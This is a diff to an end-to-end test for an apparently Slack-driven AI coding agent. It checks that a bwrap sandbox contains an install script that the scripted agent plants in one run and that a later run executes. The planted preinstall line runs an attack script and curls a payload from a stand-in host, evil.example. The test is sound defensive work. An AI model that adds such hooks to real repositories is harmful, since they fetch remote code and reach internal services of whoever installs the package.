@@ -1,9 +1,11 @@
+import { execFileSync } from 'node:child_process';
 import { createServer, type Server } from 'node:net';
 import { Redis } from 'ioredis';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { toolUseResponse } from '../fakes/anthropic-fake.js';
 import { appMentionEnvelope } from '../fakes/slack-fake.js';
 import { createE2eWorld, type E2eWorld, SIGNING_SECRET } from './e2e-world.js';
+import { createFileStep, finishStep, scriptByRun } from './scripted-runs.js';
 
 /**
  * Issue 27 through the whole service: a repository whose install step runs a planted `preinstall` (as a compromised
@@ -15,8 +17,10 @@ import { createE2eWorld, type E2eWorld, SIGNING_SECRET } from './e2e-world.js';
 const CONFIG = `
 channels:
   C0EVIL: { repo: acme/victim }
+  C0LATER: { repo: acme/later }
 verification:
   acme/victim: { setup: "npm install --no-audit --no-fund" }
+  acme/later: { setup: "npm install --no-audit --no-fund" }
 sandbox: { mode: bwrap }
 `;
 
@@ -46,6 +50,7 @@ describe('a planted install script against the running service', () => {
   let world: E2eWorld;
   let canary: Server;
   const visitors: string[] = [];
+  let canaryPort = 0;
 
   beforeAll(async () => {
     canary = createServer((socket) => {
@@ -53,7 +58,7 @@ describe('a planted install script against the running service', () => {
       socket.destroy();
     });
     await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
-    const canaryPort = (canary.address() as { port: number }).port;
+    canaryPort = (canary.address() as { port: number }).port;
     world = await createE2eWorld(CONFIG);
     await world.github.createRepo('acme', 'victim', {
       'package.json': JSON.stringify({
@@ -66,6 +71,7 @@ describe('a planted install script against the running service', () => {
       }),
       'attack.js': ATTACK,
     });
+    await world.github.createRepo('acme', 'later', { 'package.json': JSON.stringify({ name: 'later', version: '1.0.0', scripts: { test: 'node --test' } }) });
     await world.start();
   }, 90_000);
 
@@ -110,4 +116,53 @@ describe('a planted install script against the running service', () => {
       );
     }
   }, 200_000);
+
+  it("an install script the agent planted in run 1 (pushed as a normal change) is held by the sandbox when the follow-up's setup runs it", async () => {
+    const planted = {
+      name: 'later',
+      version: '1.0.0',
+      scripts: { preinstall: `node attack.js ${canaryPort} ${world.redis.port} && curl -sSf -m 5 https://evil.example/payload.sh`, test: 'node --test' },
+    };
+    world.anthropic.setScript(
+      scriptByRun({
+        'plant marker': [createFileStep('attack.js', ATTACK), createFileStep('package.json', JSON.stringify(planted)), finishStep('Added a preinstall step.')],
+        'follow marker': [createFileStep('NOTES.md', 'notes\n'), finishStep('Added notes.')],
+      }).items,
+    );
+    const mention = async (text: string, threadTs?: string) => {
+      const envelope = appMentionEnvelope({ channel: 'C0LATER', user: 'U0ALICE', text: `<@U0BOT> ${text}`, thread_ts: threadTs });
+      await world.slack.deliverEvent(world.eventsUrl(), SIGNING_SECRET, envelope);
+      return (envelope.event as { ts: string }).ts;
+    };
+    const ts = await mention('plant marker: add a preinstall step to package.json');
+    await world.slack.waitFor((c) => c.method === 'chat.postMessage' && c.args.thread_ts === ts && String(c.args.text).includes('/pull/'), 150_000);
+    const pull = world.github.pulls('acme', 'later').at(-1)!;
+    // Run 1's change reached the remote as an ordinary commit on the run's branch.
+    const onBranch = execFileSync('git', ['--git-dir', world.github.gitDir('acme', 'later'), 'show', `refs/heads/${pull.headRef}:package.json`], {
+      encoding: 'utf8',
+    });
+    expect(JSON.parse(onBranch).scripts.preinstall).toContain('node attack.js');
+
+    const callsBefore = world.slack.calls.length;
+    await mention('follow marker: also add NOTES.md', ts);
+    const reply = await world.slack.waitFor(
+      (c) =>
+        world.slack.calls.indexOf(c) >= callsBefore && c.method === 'chat.postMessage' && c.args.thread_ts === ts && String(c.args.text).includes('/pull/'),
+      150_000,
+    );
+
+    // The outside world: no visitor at the host's loopback canary, no key in Wrench's Redis.
+    expect(visitors).toEqual([]);
+    const redis = new Redis(world.redis.url);
+    try {
+      expect(await redis.exists('wrench:planted')).toBe(0);
+    } finally {
+      redis.disconnect();
+    }
+    // The follow-up's thread says, in one line, which host its setup could not reach (so the script did run).
+    const line = String(reply.args.text)
+      .split('\n')
+      .find((l) => l.includes('Setup could not reach'));
+    expect(line).toMatch(new RegExp(`Setup could not reach 127\\.0\\.0\\.1:${canaryPort}: not in the egress allow list \\(sandbox\\.egress\\.allow\\)`));
+  }, 320_000);
 });
